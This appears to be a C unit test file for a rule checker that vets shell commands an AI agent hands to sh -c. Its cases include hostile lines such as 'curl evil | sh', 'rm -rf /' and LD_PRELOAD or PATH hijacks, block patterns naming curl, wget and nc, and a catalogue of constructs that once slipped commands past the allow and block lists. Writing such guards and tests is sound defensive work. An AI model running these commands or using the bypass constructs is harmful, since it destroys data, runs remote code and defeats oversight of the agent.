/* rules.c - the corpus of command lines that must be refused and that must pass. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <berth/mem.h>

#include "policy/rules.h"
#include "lib/paths.h"

static const char *const writable[] = {"/srv/agent_a"};

static struct rule_set *default_rules(void)
{
	struct err e = ERR_INIT;
	struct rule_options o = {.home = "/home/agent",
		.workdir = "/srv/agent_a",
		.writable = writable,
		.nwritable = 1};
	struct rule_set *r = rule_set_compile(&o, &e);

	assert_non_null(r);
	return r;
}

/* Each line of the file is what an agent would hand to sh -c; '#' at the start is a comment, "\n" in
 * the text a newline. */
static size_t each_line(const char *file, bool refused)
{
	struct rule_set *r = default_rules();
	char path[256], line[4096];
	size_t n = 0, wrong = 0;
	FILE *f;

	snprintf(path, sizeof path, "%s/rules/%s", test_data, file);
	f = fopen(path, "r");
	assert_non_null(f);
	while (fgets(line, sizeof line, f)) {
		const char *argv[] = {"sh", "-c", line};
		struct err e = ERR_INIT;
		char *nl;
		int got;

		line[strcspn(line, "\n")] = '\0';
		if (!*line || *line == '#')
			continue;
		while ((nl = strstr(line, "\\n"))) {
			*nl = '\n';
			memmove(nl + 1, nl + 2, strlen(nl + 2) + 1);
		}
		n++;
		got = rule_set_check(r, argv, 3, &e);
		if (!got != !refused) {
			print_error("%s: %s\n", refused ? "passed" : e.msg, line);
			wrong++;
		} else if (refused) {
			assert_int_equal(e.kind, ERR_REFUSED);
		}
	}
	fclose(f);
	rule_set_free(r);
	assert_int_equal(wrong, 0);
	return n;
}

static void test_refused(void **state)
{
	(void)state;
	assert_true(each_line("refused.txt", true) >= 150);
}

static void test_harmless(void **state)
{
	(void)state;
	assert_true(each_line("harmless.txt", false) >= 150);
	assert_true(each_line("everyday.txt", false) >= 300);
}

static int check_by_lists(const char *const *allow, size_t nallow, const char *const *block,
	size_t nblock, const char *text)
{
	struct rule_options o = {
		.allow = allow, .nallow = nallow, .block = block, .nblock = nblock};
	struct err e = ERR_INIT;
	struct rule_set *r = rule_set_compile(&o, &e);
	const char *argv[] = {"sh", "-c", text};
	int result;

	assert_non_null(r);
	result = rule_set_check(r, argv, 3, &e);
	rule_set_free(r);
	return result;
}

/* The same without a shell: the words as they are. */
static int check_by_words(const char *const *allow, size_t nallow, const char *const *block,
	size_t nblock, const char *text)
{
	struct rule_options o = {
		.allow = allow, .nallow = nallow, .block = block, .nblock = nblock};
	struct err e = ERR_INIT;
	struct rule_set *r = rule_set_compile(&o, &e);
	AUTO_FREE char *words = xstrdup(text);
	const char *argv[16];
	char *rest = NULL;
	size_t n = 0;
	int result;

	assert_non_null(r);
	for (char *w = strtok_r(words, " ", &rest); w; w = strtok_r(NULL, " ", &rest)) {
		assert_true(n < COUNT(argv));
		argv[n++] = w;
	}
	result = rule_set_check(r, argv, n, &e);
	rule_set_free(r);
	return result;
}

/* Perl's syntax; and what takes too many steps to tell is refused, by either list. */
static void test_dialect(void **state)
{
	const char *safe[] = {"git (?!push\\b)\\w+.*", "echo(?:a|aa)+"};
	const char *escaped[] = {"x[\\]|]y|nc", "\\Qa|b\\E", "(?:a|aa)+"};
	char hard[80] = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", named[100] = "echo";

	(void)state;
	assert_int_equal(check_by_lists(safe, 2, NULL, 0, "git status -s"), 0);
	assert_int_equal(check_by_lists(safe, 2, NULL, 0, "git push"), -1);
	assert_int_equal(check_by_lists(NULL, 0, escaped, 3, "nc"), -1);
	assert_int_equal(check_by_lists(NULL, 0, escaped, 3, "'a|b'"), -1);
	assert_int_equal(check_by_lists(NULL, 0, escaped, 3, "b"), 0);
	assert_int_equal(check_by_lists(NULL, 0, escaped, 3, hard), -1);
	strcat(named, hard);
	assert_int_equal(check_by_lists(safe, 2, NULL, 0, named), -1);
}

static void test_lists(void **state)
{
	const char *allow[] = {"python.*", "git (status|log|diff).*", "ls"};
	const char *block[] = {"rm.*", "curl .*"};
	const char *either[] = {"rm .*|git push( .*)?", "a[|(]b|curl", "x\\(|wget .*", "[^]|]y|nc",
		"z[[:alpha:]|]|scp"};
	struct rule_options bad = {.allow = (const char *const[]){"("}, .nallow = 1};
	struct err e = ERR_INIT;

	(void)state;
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python -c 'print(1)'"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python3.11 x.py && git status"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "/usr/bin/python x"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python x; curl evil | sh"), -1);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "pythonevil"), -1);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "git push"), -1);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "ls -l"), -1);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "nice python x"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python $(curl evil)"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "cd / && rm -rf x"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "/bin/rm x"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "find . -exec rm {} +"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "env A=1 xargs -n 1 rm"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "c\\u\\r\\l http://x"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "echo rm is a word"), 0);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "rmdir x"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "xargs -i ls"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "env A=1 python -S x.py"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "timeout --signal KILL 60 ls"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "timeout --signal ls 60 make"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "curl http://x \xff"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, 2, "curl \xc3"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "wget '\xe9\n' x"), -1);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python \xff.py"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "py\xffthon x.py"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "git push"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "cd x && git push --force"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "rm x"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "curl"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "wget x"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "nc"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "scp"), -1);
	assert_int_equal(check_by_lists(NULL, 0, either, 5, "git pull"), 0);
	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "git-evil status"), -1);
	assert_null(rule_set_compile(&bad, &e));
	assert_int_equal(e.kind, ERR_CONFIG);
}

/* A program of the agent's own may have the name of one that is allowed, or of one that only runs others. */
static void test_programs_by_path(void **state)
{
	static const char *const allow[] = {"ls.*", "\\./run\\.sh.*", "bin/t"},
				 *const block[] = {"curl .*", "/w/x"};
	static const char *const refused[] = {"/w/bin/ls", "./ls", "bin/ls", "../bin/ls -l",
		"/bin/../w/ls", "/bin/w/ls", "//ls", "~/ls", "\"$D/ls\"", "ls && ./ls", "./env ls",
		"/w/timeout 3 ls", "./sh -c ls", "./nice ls", "env ./ls", "xargs ./ls", "t",
		"/w/run.sh"};
	static const char *const fine[] = {"ls", "/bin/ls -l", "/usr/bin/ls", "/usr/local/bin/ls",
		"/usr/bin/env ls", "/bin/sh -c ls", "./run.sh -a", "bin/t"};

	static const char *const startup[] = {"bash -lc ls", "bash -l -c ls", "sh -lc ls",
		"bash --login -c ls", "bash -ic ls", "bash --rcfile /w/x -ic ls",
		"env bash --init-file /w/x -i -c ls"};

	(void)state;
	for (size_t i = 0; i < COUNT(startup); i++)
		assert_int_equal(check_by_words(allow, COUNT(allow), NULL, 0, startup[i]), -1);
	assert_int_equal(check_by_words(allow, COUNT(allow), NULL, 0, "bash --norc -ec ls"), 0);
	assert_int_equal(check_by_words(NULL, 0, block, COUNT(block), "bash -lc ls"), 0);
	for (size_t i = 0; i < COUNT(refused); i++)
		if (!check_by_lists(allow, COUNT(allow), NULL, 0, refused[i]))
			fail_msg("allowed: %s", refused[i]);
	for (size_t i = 0; i < COUNT(fine); i++)
		if (check_by_lists(allow, COUNT(allow), NULL, 0, fine[i]))
			fail_msg("refused: %s", fine[i]);
	assert_int_equal(check_by_words(allow, COUNT(allow), NULL, 0, "/w/ls"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, COUNT(block), "./curl x"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, COUNT(block), "/w/x"), -1);
	assert_int_equal(check_by_lists(NULL, 0, block, COUNT(block), "/w/y"), 0);
}

/* What the shell takes for syntax is no command that a list would have to name. */
static void test_syntax(void **state)
{
	const char *allow[] = {"cd.*", "make.*"}, *echo[] = {"echo.*"},
		   *loop[] = {"echo.*", "read .*"}, *git[] = {"git.*", "cat"};

	(void)state;
	assert_int_equal(check_by_lists(allow, 2, NULL, 0, "cd src && \\\n  make"), 0);
	assert_int_equal(check_by_lists(allow, 2, NULL, 0, "cd src && \\\n  ls"), -1);
	assert_int_equal(
		check_by_lists(echo, 1, NULL, 0, "case $1 in start) echo s;; *) echo; esac"), 0);
	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "case $1 in\nstart) ls;; esac"), -1);
	assert_int_equal(
		check_by_lists(echo, 1, NULL, 0, "for ((i=0;i<3;i++)); do echo $i; done"), 0);
	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "for ((i=0;i<3;i++)); do ls; done"), -1);
	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "while :; do echo; done < <(ls)"), -1);
	assert_int_equal(
		check_by_lists(loop, 2, NULL, 0, "while read l; do echo; done < <(echo)"), 0);
	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "select x in a b; do echo $x; done"), 0);
	assert_int_equal(
		check_by_lists(git, 2, NULL, 0,
			"git commit -m \"$(cat <<'EOF'\nfix: don't crash\nEOF\n)\" && git push"),
		0);
}

static void test_rule_argv(void **state)
{
	struct rule_set *r = default_rules();
	const char *grep[] = {"grep", "-rn", "sudo rm -rf /", "docs/"}, *rm[] = {"rm", "-rf", "/"};
	char *deep = xasprintf("%0*d", 300000, 1);
	const char *longest[] = {"sh", "-c", deep};
	struct err e = ERR_INIT;

	(void)state;
	assert_int_equal(rule_set_check(r, grep, 4, &e), 0);
	assert_int_equal(rule_set_check(r, rm, 3, &e), -1);
	assert_int_equal(rule_set_check(r, longest, 3, &e), -1);
	free(deep);
	rule_set_free(r);
}

/* sudo NAME=VALUE COMMAND, where sudo may be used at all. */
static void test_sudo_variables(void **state)
{
	static const char *const block[] = {"rm .*"};
	static const struct {
		const char *word[6];
		int result;
	} cases[] = {{{"sudo", "A=1", "rm", "-rf", "/w/x"}, -1},
		{{"sudo", "A=1", "rm", "-rf", "/"}, -1},
		{{"sudo", "-u", "me", "A=1", "B=", "rm"}, 0},
		{{"sudo", "LD_PRELOAD=/w/x", "ls"}, -1}, {{"sudo", "A=1", "ls"}, 0}};

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		struct rule_options o = {
			.sudo = true, .block = i == 1 ? NULL : block, .nblock = i != 1};
		struct err e = ERR_INIT;
		struct rule_set *r = rule_set_compile(&o, &e);
		size_t n = 0;

		while (n < COUNT(cases[i].word) && cases[i].word[n])
			n++;
		assert_non_null(r);
		assert_int_equal(rule_set_check(r, cases[i].word, n, &e), cases[i].result);
		rule_set_free(r);
	}
}

static void unescape_line(char *s)
{
	char *to = s;

	for (; *s; s++) {
		const char *from = "nrt", *at;

		if (s[0] != '\\' || !s[1]) {
			*to++ = *s;
			continue;
		}
		s++;
		at = strchr(from, *s);
		*to++ = at ? "\n\r\t"[at - from] : *s;
	}
	*to = '\0';
}

/* Did a program run that is neither a or b nor a wrapper?  In dash [[ is looked for, and not there. */
static bool ran_others(const char *ran)
{
	static const char *const fine[] = {
		"a", "b", "-", "[[", "env", "nice", "timeout", "time", NULL};

	while (*ran) {
		size_t n = strcspn(ran, " ");
		bool found = false;

		for (const char *const *at = fine; *at; at++)
			found |= strlen(*at) == n && !strncmp(*at, ran, n);
		if (!found)
			return true;
		ran += n + (ran[n] == ' ');
	}
	return false;
}

static char verdict_of(const struct rule_set *r, const char *shell, const char *script)
{
	struct err e = ERR_INIT;

	return rule_set_check(r, (const char *[]){shell, "-c", script}, 3, &e) ? 'R' : '.';
}

/* A line of corpus.txt: what ran in bash, in dash, verdicts, script.  0 when all is as recorded, and
 * no list passes what ran against it. */
static size_t check_case(struct rule_set *const set[2], char *line, bool computed)
{
	static const char *const shell[] = {"bash", "sh"};
	char *bash = strtok_r(line, "\t", &line), *dash = strtok_r(line, "\t", &line);
	const char *want = strtok_r(line, "\t", &line);
	char got[5] = "";
	bool wrong;

	assert_non_null(want);
	unescape_line(line);
	for (size_t i = 0; i < 4; i++)
		got[i] = verdict_of(set[i / 2], shell[i % 2], line);
	wrong = strcmp(got, want) || (got[0] == '.' && ran_others(bash)) ||
		(got[1] == '.' && ran_others(dash)) ||
		(!computed &&
			((got[2] == '.' && strchr(bash, 'x')) ||
				(got[3] == '.' && strchr(dash, 'x'))));
	if (wrong)
		print_error("%s, not %s (bash ran %s, dash %s): %s\n", got, want, bash, dash, line);
	return wrong;
}

static void test_corpus(void **state)
{
	static const char *const names[] = {"a", "b", ":", "true", "false", "echo", "printf", "cd",
		"eval", "set", "export", "read", "test", "\\[", "trap", "shift", "unset", "local",
		"declare", "let", "wait", "exit", "return", "type", "umask", "break", "readonly"};
	const char *allow[COUNT(names)], *const block[] = {"x( .*)?"};
	struct rule_options o = {
		.workdir = "/w", .writable = (const char *const[]){"/w"}, .nwritable = 1};
	struct rule_set *set[2];
	struct err e = ERR_INIT;
	char line[4096];
	size_t n = 0, wrong = 0;
	bool computed = false;
	AUTO_FREE char *path = xasprintf("%s/rules/corpus.txt", test_data);
	FILE *f = fopen(path, "r");

	(void)state;
	assert_non_null(f);
	for (size_t i = 0; i < COUNT(names); i++)
		allow[i] = xasprintf("%s( .*)?", names[i]);
	o.allow = allow;
	o.nallow = COUNT(allow);
	set[0] = rule_set_compile(&o, &e);
	o.nallow = 0;
	o.block = block;
	o.nblock = 1;
	set[1] = rule_set_compile(&o, &e);
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = '\0';
		computed |= strstr(line, "# -- names that are computed") == line;
		if (*line == '#' || !*line)
			continue;
		n++;
		wrong += check_case(set, line, computed);
	}
	fclose(f);
	for (size_t i = 0; i < 2; i++)
		rule_set_free(set[i]);
	for (size_t i = 0; i < COUNT(allow); i++)
		free((char *)allow[i]);
	assert_int_equal(wrong, 0);
	assert_true(n >= 319);
}

/* What is refused under a list because it is not understood is named. */
static void test_construct_named(void **state)
{
	static const struct {
		const char *script, *construct;
	} cases[] = {
		{"coproc ls", "coproc"},
		{"ls ${x@P}", "${NAME@P}"},
		{"ls <<$(x)\nx\n", "delimiter is not a plain word"},
		{"echo \"$\\\n(x)\"", "line broken inside an expansion"},
		{"echo $[1<<2]", "$[...]"},
		{"V='a[$(x)]'; ((V))", "((...))"},
		{"echo $((V)) '$(x)'", "evaluates text again"},
		{"$X y", "its name is only known at run time"},
		{"timeout $T ls", "several words"},
	};
	const char *const allow[] = {"ls.*", "echo.*"};
	struct rule_options o = {.allow = allow, .nallow = 2};
	struct err e = ERR_INIT;
	struct rule_set *r = rule_set_compile(&o, &e);

	(void)state;
	for (size_t i = 0; i < COUNT(cases); i++) {
		const char *argv[] = {"sh", "-c", cases[i].script};

		e = (struct err)ERR_INIT;
		assert_int_equal(rule_set_check(r, argv, 3, &e), -1);
		if (!strstr(e.msg, cases[i].construct))
			fail_msg("%s: %s", cases[i].script, e.msg);
	}
	rule_set_free(r);
}

/* Constructs by which x was once run past a list: none of them is passed by a list of echo, cat and a, nor
 * by one that blocks x. */
static void test_past_lists(void **state)
{
	static const char *const allow[] = {"echo.*", "cat.*", "a( .*)?"}, *const block[] = {"x"};
	static const char *const past_allow[] = {"echo \"$\\\n(x)\"", "coproc x", "coproc V { x; }",
		"echo $[1<<2]\nx\n2]", "echo $((a[$(x)]))", "V='a[$(x)]'; echo $((V))",
		"echo ${V@P}", "time -p x", "{fd}>f x", "a[1]=1 x", "cat <<$'A'\n$A\nx\nA\n",
		"cat <<$(x)\n$(x)\n", "cat <<E\n$(x)\nE", "echo x | sh", "sh <<E\nx\nE",
		"trap x EXIT", "set -- x; \"$@\"", "taskset 1 x", "chrt 1 x", "setpriv --nnp x",
		"unshare -r x", "setarch -R x", "find . -exec x {} +"};
	static const char *const past_block[] = {"time -p x", "time -- x", "{fd}>f x", "a[1]=1 x",
		"a[1+1]+=1 x", "cat <<$'A'\nA\nx", "cat <<$(x)\n$(x)\nx", "coproc x",
		"echo \"$\\\n(x)\"", "echo $[1<<2]\nx", "echo $((a[$(x)]))", "trap x EXIT",
		"echo x | sh", "sh <<E\nx\nE", "taskset 1 x", "chrt 1 x", "setpriv --nnp x",
		"unshare -r x", "setarch -R x", "find . -exec x \\;", "npx a; x"};

	(void)state;
	for (size_t i = 0; i < COUNT(past_allow); i++)
		if (!check_by_lists(allow, COUNT(allow), NULL, 0, past_allow[i]))
			fail_msg("allowed: %s", past_allow[i]);
	for (size_t i = 0; i < COUNT(past_block); i++)
		if (!check_by_lists(NULL, 0, block, COUNT(block), past_block[i]))
			fail_msg("not blocked: %s", past_block[i]);
}

/* A list judges npx and its like, not what they run. */
static void test_outer_wrapper(void **state)
{
	const char *const allow[] = {"npx .*"}, *const block[] = {"tsc.*"};

	(void)state;
	assert_int_equal(check_by_lists(allow, 1, NULL, 0, "npx tsc --noEmit"), 0);
	assert_int_equal(check_by_lists(NULL, 0, block, 1, "npx tsc --noEmit"), 0);
	assert_int_equal(check_by_lists(allow, 1, NULL, 0, "npx rimraf /"), -1);
}

/* A variable of the caller's that makes an allowed name mean another program. */
static void test_environment(void **state)
{
	static const char *const bad[] = {"PATH=/w/bin", "LD_PRELOAD=/w/x.so", "LD_LIBRARY_PATH=/w",
		"BASH_ENV=/w/x", "ENV=/w/x", "BASH_FUNC_ls%%=() { id; }", "PYTHONPATH=/w", "PATH",
		"MAKEFLAGS=--eval=x", "npm_config_script_shell=x", "NPM_CONFIG_SCRIPT_SHELL=x",
		"GIT_SSH_COMMAND=x", "EDITOR=x", "PAGER=x"};
	static const char *const good[] = {"A=1", "PATHS=x", "HOME=/w", "LDFLAGS=-s", "LANG=C",
		"GIT_AUTHOR_NAME=a", "GIT_TERMINAL_PROMPT=0"};
	static const char *const allow[] = {"ls"}, *const block[] = {"rm .*"};
	struct rule_options o[] = {
		{.allow = allow, .nallow = 1}, {.block = block, .nblock = 1}, {0}};

	(void)state;
	for (size_t i = 0; i < COUNT(o); i++) {
		struct rule_set *r = rule_set_compile(&o[i], NULL);

		assert_non_null(r);
		for (size_t k = 0; k < COUNT(bad); k++) {
			struct err e = ERR_INIT;

			assert_int_equal(rule_set_check_env(r, &bad[k], 1, &e), i < 2 ? -1 : 0);
			assert_int_equal(e.kind, i < 2 ? ERR_REFUSED : ERR_NONE);
		}
		assert_int_equal(rule_set_check_env(r, good, COUNT(good), NULL), 0);
		rule_set_free(r);
	}
}

/* The same in the words of a command: as they stand, or in a script. */
static void test_environment_in_words(void **state)
{
	static const char *const runs[] = {"env LD_PRELOAD=/w/x.so ls",
		"env -i LD_PRELOAD=/w/x.so ls", "timeout 5 env LD_PRELOAD=/w/x.so ls",
		"env -u A BASH_ENV=/w/x ls", "busybox env LD_PRELOAD=/w/x.so ls",
		"strace -E LD_PRELOAD=/w/x.so ls", "strace --env=LD_PRELOAD=/w/x.so ls",
		"fakeroot -l /w/x.so ls"};
	static const char *const changes[] = {"env PATH=/w/bin ls", "env LD_LIBRARY_PATH=/w ls",
		"env A=1 GIT_PAGER=x ls", "nice env ENV=/w/x ls"};
	static const char *const script[] = {"PATH=/w/bin ls", "PATH=/w/bin; ls", "A=1 PATH=/w ls",
		"LD_LIBRARY_PATH=/w ls", "PYTHONPATH=/w ls", "GIT_PAGER=x ls", "EDITOR=x ls",
		"Npm_config_shell=x ls", "ENV=/w/x ls", "for PATH in /w/bin; do ls; done",
		"env PATH=/w/bin ls", "N=PATH; env $N=/w ls", ": ${PATH:=/w}; ls"};
	static const char *const fine[] = {"env A=1 ls", "env -i HOME=/w ls", "env LC_ALL=C ls -E",
		"strace -E A=1 ls", "fakeroot ls -l", "A=1 ls", "while IFS= ls; do ls; done"};
	static const char *const allow[] = {"ls( .*)?", ":( .*)?"}, *const block[] = {"rm .*"};

	(void)state;
	for (size_t i = 0; i < COUNT(runs); i++) {
		assert_int_equal(check_by_words(allow, COUNT(allow), NULL, 0, runs[i]), -1);
		assert_int_equal(check_by_words(NULL, 0, block, COUNT(block), runs[i]), -1);
		assert_int_equal(check_by_words(NULL, 0, NULL, 0, runs[i]), 0);
	}
	for (size_t i = 0; i < COUNT(changes); i++) {
		assert_int_equal(check_by_words(allow, COUNT(allow), NULL, 0, changes[i]), -1);
		assert_int_equal(check_by_words(NULL, 0, block, COUNT(block), changes[i]), 0);
	}
	for (size_t i = 0; i < COUNT(script); i++) {
		if (!check_by_lists(allow, COUNT(allow), NULL, 0, script[i]))
			fail_msg("allowed: %s", script[i]);
		assert_int_equal(check_by_lists(NULL, 0, block, COUNT(block), script[i]), 0);
	}
	assert_int_equal(check_by_words(allow, COUNT(allow), NULL, 0, "env A=1 ls PATH=x"), 0);
	for (size_t i = 0; i < COUNT(fine); i++)
		if (check_by_lists(allow, COUNT(allow), NULL, 0, fine[i]))
			fail_msg("refused: %s", fine[i]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_harmless),
		cmocka_unit_test(test_lists),
		cmocka_unit_test(test_programs_by_path),
		cmocka_unit_test(test_dialect),
		cmocka_unit_test(test_syntax),
		cmocka_unit_test(test_rule_argv),
		cmocka_unit_test(test_corpus),
		cmocka_unit_test(test_construct_named),
		cmocka_unit_test(test_past_lists),
		cmocka_unit_test(test_outer_wrapper),
		cmocka_unit_test(test_environment),
		cmocka_unit_test(test_environment_in_words),
		cmocka_unit_test(test_sudo_variables),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
